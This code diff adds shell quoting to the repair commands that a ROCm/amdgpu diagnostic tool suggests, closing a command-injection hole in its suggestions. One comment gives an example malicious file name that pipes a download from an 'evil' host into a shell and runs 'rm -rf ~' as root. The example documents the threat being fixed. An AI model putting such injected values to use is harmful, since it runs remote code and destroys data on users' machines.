@@ -4,6 +4,7 @@
 
 #include "amdgpu_module_info.h"
 #include "rocm_doctor/check.h"
+#include "rocm_doctor/shell_quote.h"
 
 namespace rocm_doctor {
 namespace {
@@ -15,11 +16,13 @@ constexpr CheckInfo kInfo{.id = "driver.blacklist",
                           .prerequisites = kPrereqs};
 
 Finding CmdlineFinding(const CmdlineBlock& block) {
-  std::string token = block.token;
-  std::string undo = "sudoedit /etc/default/grub   # delete " + token +
+  const std::string token = block.token;
+  // The token is from /proc/cmdline of the machine: one shell word wherever it is pasted.
+  const std::string quoted = ShellQuote(token);
+  std::string undo = "sudoedit /etc/default/grub   # delete " + quoted +
                      " from GRUB_CMDLINE_LINUX and GRUB_CMDLINE_LINUX_DEFAULT";
   if (token.find(',') != std::string::npos) {
-    undo = "sudoedit /etc/default/grub   # remove amdgpu from " + token;
+    undo = "sudoedit /etc/default/grub   # remove amdgpu from " + quoted;
   }
   return MakeFinding(
       "driver.amdgpu.blacklisted",
@@ -28,8 +31,8 @@ Finding CmdlineFinding(const CmdlineBlock& block) {
       {{"token", token},
        {"undo", undo},
        {"regenerate",
-        "sudo update-grub   # Fedora/RHEL: sudo grubby --update-kernel=ALL --remove-args=\"" +
-            token + "\""}});
+        "sudo update-grub   # Fedora/RHEL: sudo grubby --update-kernel=ALL --remove-args=" +
+            (IsShellSafeWord(token) ? "\"" + token + "\"" : quoted)}});
 }
 
 Finding ModprobeFinding(const ModprobeRule& rule) {
@@ -40,7 +43,9 @@ Finding ModprobeFinding(const ModprobeRule& rule) {
       {{where, rule.text, "no line that disables amdgpu"}},
       {{"file", rule.file},
        {"line", std::to_string(rule.line)},
-       {"undo", "sudo sed -i '" + std::to_string(rule.line) + "s/^/# /' " + rule.file},
+       // The file name is the machine's (modprobe.d): `x$(curl evil|sh)\nrm -rf ~ #.conf`
+       // must stay one quoted word on one line of a command run as root.
+       {"undo", "sudo sed -i '" + std::to_string(rule.line) + "s/^/# /' " + ShellQuote(rule.file)},
        {"regenerate", "sudo update-initramfs -u   # Fedora/RHEL: sudo dracut -f"}});
 }
 
